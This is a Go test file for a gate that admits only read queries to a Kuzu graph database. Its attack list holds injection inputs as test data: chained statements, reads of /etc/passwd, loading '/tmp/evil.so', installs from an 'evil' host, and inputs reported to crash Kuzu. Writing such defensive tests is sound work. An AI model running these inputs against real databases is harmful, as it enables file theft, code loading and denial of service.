package gate

import (
	"errors"
	"strings"
	"testing"
	"time"
)

// attacks are statements that must never be admitted: every bypass of
// issue 12 item 1 and its neighbours. They also seed FuzzGate.
var attacks = []string{
	// The backslash-backquote bypass of the old word filter: Kuzu has no
	// escapes in backquoted names, so `x\` ends at the second backquote.
	"UNWIND [1] AS `x\\` LOAD FROM \"/etc/passwd\" (file_format=\"csv\", header=false, delim=\":\") RETURN column1",
	"RETURN 1 AS `a\\`; COPY (RETURN 'x') TO '/tmp/x.csv'",
	"RETURN 1 AS `a\\`; EXPORT DATABASE '/tmp/d'",
	"RETURN 1 AS `a\\`; LOAD EXTENSION '/path/evil.so'",
	"RETURN 1 AS `a\\`; CHECKPOINT",
	"MATCH (n) RETURN n AS `a\\`, 1 AS `b` LOAD FROM '/etc/passwd' RETURN *",
	// ';' chains.
	"RETURN 1; RETURN 2",
	"MATCH (n) RETURN n;CHECKPOINT",
	"RETURN 1;;",
	"RETURN 1; ;",
	";RETURN 1",
	"RETURN 1 /* c */ ; // x\n LOAD EXTENSION 'e.so'",
	// Statements that are not read queries.
	"EXPORT DATABASE '/tmp/d'",
	"IMPORT DATABASE '/tmp/d'",
	"LOAD EXTENSION '/tmp/evil.so'",
	"LOAD '/tmp/evil.so'",
	"INSTALL fts",
	"FORCE INSTALL fts FROM 'http://evil/'",
	"UNINSTALL fts",
	"UPDATE fts",
	"CHECKPOINT",
	"checkpoint",
	"COPY (MATCH (n) RETURN n) TO '/tmp/x.csv'",
	"COPY File FROM '/tmp/x.csv'",
	"ATTACH '/tmp/other' AS o (dbtype kuzu)",
	"DETACH o",
	"USE o",
	"BEGIN TRANSACTION",
	"BEGIN TRANSACTION READ ONLY",
	"COMMIT",
	"ROLLBACK",
	"CREATE (:File {id: 'x'})",
	"CREATE NODE TABLE T(id INT64, PRIMARY KEY(id))",
	"DROP TABLE File",
	"ALTER TABLE File ADD x INT64",
	"COMMENT ON TABLE File IS 'x'",
	"CREATE MACRO m(x) AS x",
	"EXPLAIN MATCH (n) RETURN n",
	"PROFILE MATCH (n) RETURN n",
	"CALL threads=1",
	"CALL timeout=1",
	// Writes and file reads inside read queries.
	"MATCH (n:File) SET n.path = 'x' RETURN n",
	"MATCH (n:File) DELETE n",
	"MATCH (n:File) DETACH DELETE n",
	"MATCH (n:File) REMOVE n.path RETURN n",
	"MERGE (n:File {id: 'x'}) RETURN n",
	"MATCH (n) WITH n CREATE (m:File {id: 'y'}) RETURN m",
	"UNWIND [1] AS x LOAD FROM '/etc/passwd' RETURN *",
	"LOAD FROM '/etc/passwd' RETURN *",
	"LOAD WITH HEADERS (a STRING) FROM '/etc/passwd' RETURN *",
	"MATCH (n) RETURN n UNION LOAD FROM '/etc/passwd' RETURN *",
	"MATCH (n) RETURN n.id UNION ALL CALL read_csv('/etc/passwd') RETURN *",
	"CALL read_csv_serial('/etc/passwd') RETURN *",
	"CALL file_info('/etc/passwd') RETURN *",
	"CALL current_setting('home_directory') RETURN *",
	"CALL show_attached_databases() RETURN *",
	"CALL create_fts_index('File', 'i', ['path'])",
	"CALL clear_warnings()",
	"CALL `read_csv_serial`('/etc/passwd') RETURN *",
	"CALL show_tables",
	"CALL show_tables = 1",
	"CALL { LOAD FROM '/etc/passwd' RETURN * } RETURN 1",
	"MATCH (n) CALL { WITH n LOAD FROM '/etc/passwd' RETURN * } RETURN n",
	"MATCH (n) WHERE EXISTS { MATCH (n) LOAD FROM '/etc/passwd' RETURN * } RETURN n",
	// Comments and strings that Kuzu ends differently than a naive lexer.
	"RETURN 1 /***/ ; CHECKPOINT",
	"RETURN 1 // c\r; CHECKPOINT",
	"RETURN 1 // c\rCHECKPOINT",
	"RETURN 1 /* unterminated",
	"RETURN 'a\\q'; CHECKPOINT //'",
	"RETURN 'a\\x41'; CHECKPOINT //'",
	"RETURN \"a\\x4\"; CHECKPOINT //\"",
	"RETURN 'unterminated",
	"RETURN `unterminated",
	"RETURN ``",
	// Comments hiding keywords that are still there.
	"MATCH (n) /* read only */ SET n.x = 1",
	"MATCH (n) RETURN n // harmless\nUNION LOAD FROM '/etc/passwd' RETURN *",
	"MATCH (n)/**/SET/**/n.x=1",
	"CHE/**/CKPOINT",
	// NUL and encoding tricks: Kuzu's C API stops at the NUL.
	"RETURN 1\x00; CHECKPOINT",
	"RETURN 1 \xff; CHECKPOINT",
	// Unicode lookalikes: a full-width or Greek semicolon is not Kuzu's ';'
	// (an Unknown token), so refuse rather than guess.
	"RETURN 1\uff1b CHECKPOINT",
	"RETURN 1\u037e CHECKPOINT",
	"RETURN 1\u200b; CHECKPOINT",
	"\ufeffRETURN 1",
	// Not a read clause at the start.
	"YIELD x",
	"WHERE 1 = 1 RETURN 1",
	"",
	"   ",
	"/* only a comment */",
	// Names spelt like denied keywords must be backquoted.
	"MATCH (set) RETURN set",
	"MATCH (n {copy: 1}) RETURN n",
	"WITH 1 AS load RETURN load",
	// Inputs that segfault Kuzu 0.11.3 while it binds them (found by
	// calling every scalar function with (), ('x'), (1), ([1]) and (NULL)).
	"RETURN copy_json()",
	"RETURN labels(NULL)",
	"RETURN list_sum(NULL)",
	"RETURN keys((NULL))",
	"MATCH (n) RETURN id(NULL), n",
	"RETURN coalesce(1, NULL, labels(NULL))",
	// Found by FuzzGate (testdata/fuzz/FuzzGate/b0e08f68450a9fd1).
	"RETURN NULL IN NULL",
	"RETURN 1 IN NULL",
	"RETURN NULL IN [1]",
	// Unbalanced brackets.
	"RETURN (1",
	"RETURN 1)",
	"RETURN [1)",
}

// legit are read queries that must pass.
var legit = []string{
	"MATCH (a)-[c:CALLS]->(b) WHERE b.name = 'Save' RETURN a.name, a.filePath, c.reason",
	"MATCH (a)-[c:CALLS]->(b) WHERE b.name = 'Save' RETURN a.name, a.filePath, c.reason;",
	"MATCH (a)-[c:CALLS]->(b) WHERE b.name = 'Save' RETURN a.name; // done",
	"match (n:Function) return n.name limit 5",
	"MATCH (n:Function) WHERE n.name = 'a; CHECKPOINT' RETURN n.name",
	"MATCH (n:Function) WHERE n.name = \"LOAD FROM '/etc/passwd'\" RETURN n.name",
	"MATCH (n:Function) WHERE n.name CONTAINS 'it\\'s; DROP TABLE File' RETURN n.name",
	"MATCH (n:Function) WHERE n.name = 'tab\\tnl\\nq\\\"u\\u00e9U\\U0001F600\\B\\F\\R' RETURN n.name",
	// One comment to Kuzu: a '*' inside takes the next character with it,
	// so "**/" does not close it and the ';' is comment text.
	"RETURN 1 /* **/ ; CHECKPOINT /* */",
	// One string: \' is an escaped quote.
	"RETURN 'a\\'; CHECKPOINT //'",
	"MATCH (`odd name; CHECKPOINT`:Function) RETURN `odd name; CHECKPOINT`.name",
	"MATCH (`x\\`:Function) RETURN `x\\`.name",
	"MATCH (`a``b`:Function) RETURN `a``b`.name",
	"MATCH (`set`:Function) RETURN `set`.name",
	"MATCH (n:File) RETURN n.path /* LOAD FROM '/etc/passwd' */",
	"MATCH (n:File) // CHECKPOINT; DROP TABLE File\nRETURN n.path",
	"MATCH (n:File) // comment with CR LF\r\nRETURN n.path",
	"MATCH (n:File) /* a * b ** c */ RETURN n.path",
	"OPTIONAL MATCH (n:File) RETURN n.path",
	"UNWIND [1, 2, 3] AS x RETURN x * 2",
	"UNWIND range(1, 10) AS x WITH x WHERE x % 2 = 0 RETURN x ORDER BY x DESC SKIP 1 LIMIT 2",
	"MATCH (n:Function) RETURN n.name UNION MATCH (m:Method) RETURN m.name",
	"MATCH (n:Function) RETURN n.name UNION ALL MATCH (m:Method) RETURN m.name",
	"MATCH (n:Function) WHERE EXISTS { MATCH (n)-[:CALLS]->(:Function) } RETURN n.name",
	"MATCH (n:Function) RETURN n.name, COUNT { MATCH (n)-[:CALLS]->() } AS calls",
	"MATCH (n:Function) RETURN count(*)",
	"MATCH p = (a:Function)-[:CALLS*1..3]->(b:Function) RETURN length(p)",
	"CALL show_tables() RETURN *",
	"CALL SHOW_TABLES() RETURN name",
	"CALL table_info('Function') RETURN *",
	"CALL db_version() RETURN *",
	"MATCH (n:Function) WHERE n.name STARTS WITH $prefix RETURN n.name",
	"MATCH (n:Function) WHERE n.name = $set RETURN n.name",
	"MATCH (n:Function) RETURN n.set, n.load, n . copy, n.`drop`",
	"RETURN 1.5e-3, .5, 0, 1e5, 'x' + \"y\"",
	"WITH 1 AS x RETURN x",
	"MATCH (n:Function)\u00a0RETURN\u3000n.name",
	"MATCH (a:Function)\u2014[:CALLS]\u2192(b) RETURN a",
	"RETURN [x IN range(1, 3) | x * 2]",
	"RETURN {a: 1, b: 'c'}",
	"MATCH (n:Function) RETURN CASE WHEN n.name = 'x' THEN 1 ELSE 0 END",
	"RETURN \u4e2d\u6587",
	"MATCH (n:Function) WHERE n.name = '路由器' RETURN n.name",
	"RETURN [1, NULL, 2], NULL, {a: NULL}, NULL IS NULL",
	// Lookalikes of keywords are names to Kuzu (its keywords are ASCII).
	"WITH 1 AS \uff2c\uff2f\uff21\uff24 RETURN \uff2c\uff2f\uff21\uff24",
	"WITH 1 AS \u017fet RETURN \u017fet",
	"MATCH (n:Function) WHERE n.name IS NOT NULL RETURN coalesce(n.name, 'none')",
}

func TestCheckRefusesAttacks(t *testing.T) {
	for _, s := range attacks {
		err := Check(s, Limits{})
		if err == nil {
			t.Errorf("admitted %q", s)
			continue
		}
		if !errors.Is(err, ErrRejected) {
			t.Errorf("%q: error does not wrap ErrRejected: %v", s, err)
		}
		if !strings.Contains(err.Error(), "allowed: ") {
			t.Errorf("%q: error does not say what is allowed: %v", s, err)
		}
	}
}

func TestCheckAdmitsReads(t *testing.T) {
	for _, s := range legit {
		if strings.Contains(s, "\u2192") { // not one of Kuzu's arrow heads
			if err := Check(s, Limits{}); err == nil {
				t.Errorf("admitted %q with U+2192", s)
			}
			continue
		}
		if err := Check(s, Limits{}); err != nil {
			t.Errorf("refused %q: %v", s, err)
		}
	}
}

// TestKuzuAgrees runs both lists through Kuzu: each legit query is one
// statement Kuzu prepares and plans as a pure read, and no attack the
// gate refuses for its statement count is one statement to Kuzu.
func TestKuzuAgrees(t *testing.T) {
	o := openOracle(t)
	for _, s := range legit {
		if Check(s, Limits{}) != nil {
			continue
		}
		if err := o.prepare(s); err != nil {
			// A binder error (no such property in this empty index)
			// still means Kuzu parsed exactly one statement.
			if !strings.HasPrefix(err.Error(), "Binder exception") {
				t.Errorf("gate admits %q, Kuzu refuses: %v", s, err)
			}
			continue
		}
		if v, err := o.planViolation(s); err != nil || v != "" {
			t.Errorf("%q: plan has %s (%v)", s, v, err)
		}
	}
	for _, s := range attacks {
		err := Check(s, Limits{})
		if err == nil || !strings.Contains(err.Error(), "one statement per call") {
			continue
		}
		if kerr := o.prepare(s); kuzuParsedOne(s, kerr) {
			t.Errorf("gate sees several statements in %q, Kuzu parses one (%v)", s, kerr)
		}
	}
}

func TestCheckErrorsSayWhy(t *testing.T) {
	cases := map[string]string{
		"RETURN 1; RETURN 2":                         "one statement per call",
		"UNWIND [1] AS `x\\` LOAD FROM 'f' RETURN *": "LOAD reads files",
		"CALL read_csv('f') RETURN *":                "CALL read_csv is not allowed",
		"CREATE (n:File)":                            "cannot start with CREATE",
		"MATCH (n) SET n.x = 1":                      "SET writes the database",
		"RETURN 'a\\q'":                              "invalid escape",
		"RETURN 1\x00":                               "NUL byte",
		"RETURN 1 /* x":                              "unterminated /* comment",
	}
	for s, want := range cases {
		err := Check(s, Limits{})
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("Check(%q) = %v, want it to say %q", s, err, want)
		}
	}
}

func TestLimits(t *testing.T) {
	big := "RETURN '" + strings.Repeat("x", DefaultMaxBytes) + "'"
	if err := Check(big, Limits{}); err == nil || !strings.Contains(err.Error(), "bytes") {
		t.Errorf("%d-byte statement: %v", len(big), err)
	}
	if err := Check(big, Limits{MaxBytes: 2 * DefaultMaxBytes}); err != nil {
		t.Errorf("%d-byte statement under a raised limit: %v", len(big), err)
	}
	nest := func(n int, open, close string) string {
		return "RETURN " + strings.Repeat(open, n) + "1" + strings.Repeat(close, n)
	}
	if err := Check(nest(DefaultMaxDepth, "(", ")"), Limits{}); err != nil {
		t.Errorf("depth %d: %v", DefaultMaxDepth, err)
	}
	for _, n := range []int{DefaultMaxDepth + 1, 5000, 20000} {
		for _, b := range [][2]string{{"(", ")"}, {"[", "]"}, {"{a:", "}"}} {
			s := nest(n, b[0], b[1])
			start := time.Now()
			err := Check(s, Limits{MaxBytes: 1 << 20})
			if err == nil || !strings.Contains(err.Error(), "nested deeper") {
				t.Errorf("depth %d of %s: %v", n, b[0], err)
			}
			if d := time.Since(start); d > 200*time.Millisecond {
				t.Errorf("depth %d of %s took %v", n, b[0], d)
			}
		}
	}
	// Unclosed deep nesting too (Kuzu hangs on 20,000 open brackets).
	if err := Check(strings.Repeat("(", 20000), Limits{MaxBytes: 1 << 20}); err == nil {
		t.Error("20,000 unclosed brackets admitted")
	}
}

// TestLexMatchesKuzuTokens pins token boundaries that differ from naive
// lexers.
func TestLexMatchesKuzuTokens(t *testing.T) {
	cases := map[string][]string{
		"`a``b` `x\\`":    {"`a``b`", "`x\\`"},
		"0123":            {"0", "123"},
		"1.5e-3 .5 1..2":  {"1.5e-3", ".5", "1", "..", "2"},
		"1.e":             {"1", ".", "e"},
		"n.5":             {"n", ".5"},
		"a$b $c":          {"a$b", "$", "c"},
		"'a;b' \"c;d\"":   {"'a;b'", "\"c;d\""},
		"x /* **/ y */ z": {"x", "z"},
		"<>=~!=<=":        {"<>", "=~", "!=", "<="},
		"'\\U0001F600' x": {"'\\U0001F600'", "x"},
	}
	for in, want := range cases {
		toks, err := lex(in, 64)
		if err != nil {
			t.Errorf("lex(%q): %v", in, err)
			continue
		}
		var got []string
		for _, tk := range toks {
			got = append(got, tk.text)
		}
		if strings.Join(got, "|") != strings.Join(want, "|") {
			t.Errorf("lex(%q) = %q, want %q", in, got, want)
		}
	}
}
